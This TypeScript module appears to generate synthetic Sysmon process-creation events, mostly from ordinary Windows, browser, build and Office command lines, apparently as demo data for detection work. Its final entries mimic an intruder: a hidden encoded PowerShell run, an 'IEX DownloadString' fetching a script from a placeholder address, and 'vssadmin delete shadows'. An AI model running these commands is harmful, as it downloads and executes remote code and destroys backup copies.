import { createRandom, type Random } from '../../services/app/demo/random.ts'

/** A program that is started: its path, its parents, what stands behind its name on the command line, and who made it. */
interface Program {
  readonly share: number
  readonly image: string
  readonly parents: readonly string[]
  readonly lines: readonly string[]
  readonly company: string
}

const SYSTEM = 'C:\\Windows\\System32'
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16'
const EXPLORER = 'C:\\Windows\\explorer.exe'
const SERVICES = `${SYSTEM}\\services.exe`
const MICROSOFT = 'Microsoft Corporation'

/** What a company's workstations and servers start all day, and at the end what an intruder would. */
const PROGRAMS: readonly Program[] = [
  {
    share: 16,
    image: `${SYSTEM}\\svchost.exe`,
    parents: [SERVICES],
    lines: ['-k netsvcs -p -s BITS', '-k LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc', '-k wsappx -p'],
    company: MICROSOFT,
  },
  {
    share: 16,
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    parents: ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', EXPLORER],
    lines: [
      '--type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=# --time-ticks-at-unix-epoch=-# --launch-time-ticks=# --mojo-platform-channel-handle=# /prefetch:1',
      '--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=# /prefetch:3',
      '--single-argument https://intranet.example.com/wiki/page-#',
    ],
    company: 'Google LLC',
  },
  {
    share: 9,
    image: `${SYSTEM}\\cmd.exe`,
    parents: ['C:\\Program Files\\nodejs\\node.exe', EXPLORER, `${SYSTEM}\\svchost.exe`],
    lines: [
      '/d /s /c "npm run build -- --mode=production"',
      '/c "C:\\ProgramData\\Inventory\\collect-#.cmd" >> C:\\ProgramData\\Inventory\\collect.log 2>&1',
      '/q /c "git status --porcelain=v2 && git rev-parse HEAD"',
    ],
    company: MICROSOFT,
  },
  {
    share: 8,
    image: `${SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    parents: [`${SYSTEM}\\svchost.exe`, `${SYSTEM}\\cmd.exe`, EXPLORER],
    lines: [
      '-NoProfile -NonInteractive -File "C:\\ProgramData\\Ops\\Backup-Reports.ps1" -Target D:\\Reports\\#',
      '-ExecutionPolicy AllSigned -Command "Get-Service | Where-Object { $_.Status -eq \'Stopped\' } | Export-Csv C:\\Temp\\services-#.csv"',
    ],
    company: MICROSOFT,
  },
  {
    share: 8,
    image: `${SYSTEM}\\conhost.exe`,
    parents: [`${SYSTEM}\\cmd.exe`, `${SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe`],
    lines: ['0xffffffff -ForceV1'],
    company: MICROSOFT,
  },
  {
    share: 7,
    image: 'C:\\Program Files\\Git\\mingw64\\bin\\git.exe',
    parents: [
      'C:\\Program Files\\Git\\cmd\\git.exe',
      'C:\\Users\\@\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    ],
    lines: [
      '-c core.quotepath=false log --format=%H%n%aN%n%at --max-count=# --topo-order -- src/app/page-#.ts',
      'fetch origin --prune --tags',
    ],
    company: 'The Git Development Community',
  },
  {
    share: 6,
    image: 'C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\MSBuild\\Current\\Bin\\MSBuild.exe',
    parents: ['C:\\Program Files\\dotnet\\dotnet.exe'],
    lines: [
      '/nologo /nodemode:1 /nodeReuse:true /low:false',
      'Example.Portal.sln /m /p:Configuration=Release /v:minimal',
    ],
    company: MICROSOFT,
  },
  {
    share: 5,
    image: `${OFFICE}\\OUTLOOK.EXE`,
    parents: [EXPLORER],
    lines: ['/recycle', '-Embedding'],
    company: MICROSOFT,
  },
  {
    share: 4,
    image: `${OFFICE}\\WINWORD.EXE`,
    parents: [`${OFFICE}\\OUTLOOK.EXE`, EXPLORER],
    lines: ['/n "C:\\Users\\@\\Documents\\Offer #.docx" /o ""'],
    company: MICROSOFT,
  },
  {
    share: 4,
    image: `${SYSTEM}\\rundll32.exe`,
    parents: [EXPLORER, `${SYSTEM}\\svchost.exe`],
    lines: [
      'C:\\Windows\\System32\\shell32.dll,Control_RunDLL intl.cpl',
      'C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask',
    ],
    company: MICROSOFT,
  },
  {
    share: 4,
    image: `${SYSTEM}\\taskhostw.exe`,
    parents: [`${SYSTEM}\\svchost.exe`],
    lines: ['Install $(Arg0)', 'KEYROAMING', '{222A245B-E637-4AE9-A93F-A59CA119A75E}'],
    company: MICROSOFT,
  },
  {
    share: 3,
    image: `${SYSTEM}\\msiexec.exe`,
    parents: [SERVICES],
    lines: ['/V', '/i C:\\Windows\\ccmcache\\#\\agent.msi /qn REBOOT=ReallySuppress'],
    company: MICROSOFT,
  },
  {
    share: 3,
    image: `${SYSTEM}\\schtasks.exe`,
    parents: [`${SYSTEM}\\cmd.exe`],
    lines: ['/query /fo csv /v', '/run /tn "\\Ops\\Nightly reports"'],
    company: MICROSOFT,
  },
  {
    share: 3,
    image: `${SYSTEM}\\wbem\\WmiPrvSE.exe`,
    parents: [`${SYSTEM}\\svchost.exe`],
    lines: ['-secured -Embedding'],
    company: MICROSOFT,
  },
  {
    share: 2,
    image: `${SYSTEM}\\net.exe`,
    parents: [`${SYSTEM}\\cmd.exe`],
    lines: ['use Z: \\\\files.example.com\\teams /persistent:no', 'group "Domain Admins" /domain'],
    company: MICROSOFT,
  },
  {
    share: 1,
    image: `${SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    parents: [`${OFFICE}\\WINWORD.EXE`, `${SYSTEM}\\wbem\\WmiPrvSE.exe`],
    lines: [
      '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      '-ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.#/a.ps1\')"',
    ],
    company: MICROSOFT,
  },
  {
    share: 1,
    image: `${SYSTEM}\\vssadmin.exe`,
    parents: [`${SYSTEM}\\cmd.exe`],
    lines: ['delete shadows /all /quiet'],
    company: MICROSOFT,
  },
]

const WHOLE = PROGRAMS.reduce((sum, { share }) => sum + share, 0)

/** The mean of an event's JSON is about 1.2 KB. */
const HASHES = [
  ['SHA1', 40],
  ['MD5', 32],
  ['SHA256', 64],
  ['IMPHASH', 32],
] as const

/** `count` records of processes that were started, as Sysmon writes them with the field names that Sigma uses; JSON text. */
export function windowsEvents(count: number, seed: number): readonly string[] {
  const random = createRandom(seed)
  return Array.from({ length: count }, (_none, at) => JSON.stringify(processEvent(random, at)))
}

function processEvent(random: Random, at: number): Record<string, string | number> {
  const program = pickProgram(random)
  const user = `user${random.below(400)}`
  const filled = (text: string): string =>
    text.replaceAll('@', user).replaceAll('#', () => String(random.below(100_000)))
  const parent = filled(random.pick(program.parents))
  const name = program.image.slice(program.image.lastIndexOf('\\') + 1)
  const time = new Date(Date.UTC(2026, 1, 3) + at * 37).toISOString()
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Provider_Name: 'Microsoft-Windows-Sysmon',
    Computer: `ws-${random.below(900)}.corp.example.com`,
    RecordNumber: 4_000_000 + at,
    UtcTime: time.replace('T', ' ').replace('Z', ''),
    ProcessGuid: guid(random),
    ProcessId: random.below(60_000),
    Image: program.image,
    FileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
    Description: name.replace('.exe', ' host process'),
    Product: 'Microsoft® Windows® Operating System',
    Company: program.company,
    OriginalFileName: name,
    CommandLine: `"${program.image}" ${filled(random.pick(program.lines))}`,
    CurrentDirectory: random.chance(0.7) ? `${SYSTEM}\\` : `C:\\Users\\${user}\\`,
    User: random.chance(0.4) ? 'NT AUTHORITY\\SYSTEM' : `EXAMPLE\\${user}`,
    LogonGuid: guid(random),
    LogonId: `0x${random.below(10_000_000).toString(16)}`,
    TerminalSessionId: random.below(3),
    IntegrityLevel: random.pick(['Low', 'Medium', 'High', 'System']),
    Hashes: HASHES.map(([kind, length]) => `${kind}=${random.hex(length).toUpperCase()}`).join(','),
    ParentProcessGuid: guid(random),
    ParentProcessId: random.below(60_000),
    ParentImage: parent,
    ParentCommandLine: parent.endsWith('svchost.exe') ? `${parent} -k netsvcs -p -s Schedule` : `"${parent}"`,
    ParentUser: 'NT AUTHORITY\\SYSTEM',
  }
}

function pickProgram(random: Random): Program {
  let left = random.below(WHOLE)
  for (const program of PROGRAMS) {
    left -= program.share
    if (left < 0) return program
  }
  return random.pick(PROGRAMS)
}

function guid(random: Random): string {
  return `{${[8, 4, 4, 4, 12].map((length) => random.hex(length)).join('-')}}`
}
